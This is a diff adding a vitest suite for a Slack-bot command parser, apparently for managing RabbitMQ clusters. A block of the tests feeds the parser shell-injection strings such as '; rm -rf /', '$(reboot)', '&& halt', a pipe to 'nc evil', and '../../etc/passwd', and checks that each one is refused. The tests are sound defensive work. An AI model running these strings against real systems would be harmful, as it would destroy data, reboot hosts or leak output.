@@ -1,0 +1,119 @@
+import { describe, expect, it } from 'vitest';
+import { checkClusterKnown, parseCommand, MAX_COMMAND_LENGTH } from '../../../src/commands/parse.js';
+import { helpLines } from '../../../src/commands/help.js';
+
+function errorOf(text: string) {
+  const result = parseCommand(text);
+  if (result.ok) throw new Error(`expected a usage error for ${JSON.stringify(text)}, got ${JSON.stringify(result.command)}`);
+  return result.error;
+}
+
+describe('parseCommand', () => {
+  it.each([
+    ['', { name: 'help' }],
+    ['   ', { name: 'help' }],
+    ['help', { name: 'help' }],
+    ['HELP me', { name: 'help' }],
+    ['cluster create rmq-lab', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: false }],
+    ['  cluster   create\trmq-lab  --dry-run ', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true }],
+    ['cluster create --dry-run rmq_lab.2', { name: 'cluster.create', cluster: 'rmq_lab.2', dryRun: true }],
+    ['Cluster Create rmq-lab', { name: 'cluster.create', cluster: 'rmq-lab', dryRun: false }],
+    ['status', { name: 'status' }],
+    ['status rmq-lab', { name: 'status', cluster: 'rmq-lab' }],
+    ['jobs', { name: 'jobs' }],
+  ])('parses %j', (text, command) => {
+    expect(parseCommand(text)).toEqual({ ok: true, command });
+  });
+
+  it('reads the dashes and spaces Slack clients substitute as what the user typed', () => {
+    expect(parseCommand('cluster create rmq-lab \u2014dry-run')).toEqual({ ok: true, command: { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true } });
+    expect(parseCommand('cluster\u00a0create rmq-lab \u2013\u2013dry-run')).toEqual({ ok: true, command: { name: 'cluster.create', cluster: 'rmq-lab', dryRun: true } });
+  });
+
+  it.each([
+    ['cluster', 'usage.missing_argument', '"cluster" needs a subcommand'],
+    ['cluster delete rmq-lab', 'usage.unknown_command', 'unknown subcommand "cluster delete"'],
+    ['cluster create', 'usage.missing_argument', 'cluster create needs a cluster name'],
+    ['cluster create a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
+    ['cluster create rmq-lab --force', 'usage.unknown_option', 'unknown option "--force"'],
+    ['cluster create -rf', 'usage.unknown_option', 'unknown option "-rf"'],
+    ['cluster create .hidden', 'usage.bad_name', '".hidden" is not a cluster name'],
+    [`cluster create ${'a'.repeat(64)}`, 'usage.bad_name', 'at most 63 characters'],
+    ['status a b', 'usage.unexpected_argument', 'unexpected argument "b"'],
+    ['status --all', 'usage.unknown_option', 'unknown option "--all"'],
+    ['jobs now', 'usage.unexpected_argument', 'unexpected argument "now"'],
+    ['stauts', 'usage.unknown_command', 'unknown command "stauts"; did you mean "status"?'],
+    ['create rmq-lab', 'usage.unknown_command', 'did you mean "cluster create"?'],
+    ['deploy', 'usage.unknown_command', 'unknown command "deploy"'],
+  ])('refuses %j with %s', (text, code, message) => {
+    const error = errorOf(text);
+    expect(error.code).toBe(code);
+    expect(error.message).toContain(message);
+    expect(error.usage.length).toBeGreaterThan(0);
+  });
+
+  describe('hostile and malformed text', () => {
+    it.each([
+      ['cluster create "rmq-lab"', 'U+0022 (") at position 16'],
+      ["cluster create 'rmq-lab'", "U+0027 (') at position 16"],
+      ['cluster create rmq-lab; rm -rf /', 'U+003B (;) at position 23'],
+      ['cluster create $(reboot)', 'U+0024 ($) at position 16'],
+      ['cluster create `reboot`', 'U+0060 (`) at position 16'],
+      ['status rmq-lab && halt', 'U+0026 (&)'],
+      ['status rmq-lab | nc evil 1', 'U+007C (|)'],
+      ['status ../../etc/passwd', 'U+002F (/)'],
+      ['status <@U0123ABCD>', 'U+003C (<)'],
+      ['status r\u00e9seau', 'U+00E9 at position 9'],
+      ['status \u{1F407}', 'U+1F407 at position 8'],
+      ['status rmq\u200blab', 'U+200B'],
+      ['status rmq\u0000lab', 'U+0000'],
+      ['status \u202erab', 'U+202E'],
+    ])('%j is a usage error naming the character', (text, fragment) => {
+      const error = errorOf(text);
+      expect(error.code).toBe('usage.bad_character');
+      expect(error.message).toContain(fragment);
+    });
+
+    it.each(['cluster create a\nreboot', 'status\r\nx', 'jobs\u2028'])('%j spans lines and is refused', (text) => {
+      expect(errorOf(text).code).toBe('usage.multiline');
+    });
+
+    it('refuses very long text without echoing it', () => {
+      const text = `status ${'a'.repeat(100_000)}`;
+      const error = errorOf(text);
+      expect(error.code).toBe('usage.too_long');
+      expect(error.message).toBe(`the command is ${text.length} characters long; commands are at most ${MAX_COMMAND_LENGTH}`);
+    });
+
+    it('never throws, whatever the input', () => {
+      const samples = ['\u0000', '\uD800', '--', '-', '—', '....', '\t\t', 'cluster create -', '%00', '\\', '{}', 'status .', 'status -'];
+      for (const text of samples) expect(() => parseCommand(text)).not.toThrow();
+      expect(errorOf('\uD800').code).toBe('usage.bad_character');
+    });
+  });
+});
+
+describe('checkClusterKnown', () => {
+  const config = { clusters: [{ name: 'rmq-lab' }, { name: 'prod' }] } as Parameters<typeof checkClusterKnown>[1];
+
+  it('accepts configured clusters and commands without one', () => {
+    expect(checkClusterKnown({ name: 'status', cluster: 'prod' }, config)).toBeUndefined();
+    expect(checkClusterKnown({ name: 'status' }, config)).toBeUndefined();
+    expect(checkClusterKnown({ name: 'jobs' }, config)).toBeUndefined();
+  });
+
+  it('names the known clusters when the name is unknown', () => {
+    expect(checkClusterKnown({ name: 'cluster.create', cluster: 'staging', dryRun: false }, config)).toEqual({
+      code: 'usage.unknown_cluster',
+      message: 'unknown cluster "staging"; known clusters: rmq-lab, prod',
+      usage: [expect.stringContaining('cluster create <cluster>')],
+    });
+  });
+});
+
+describe('helpLines', () => {
+  it('lists every command with the prefix', () => {
+    const lines = helpLines('/rabbit');
+    expect(lines.map((l) => l.split(' — ')[0])).toEqual(['/rabbit help', '/rabbit cluster create <cluster> [--dry-run]', '/rabbit status [<cluster>]', '/rabbit jobs']);
+  });
+});
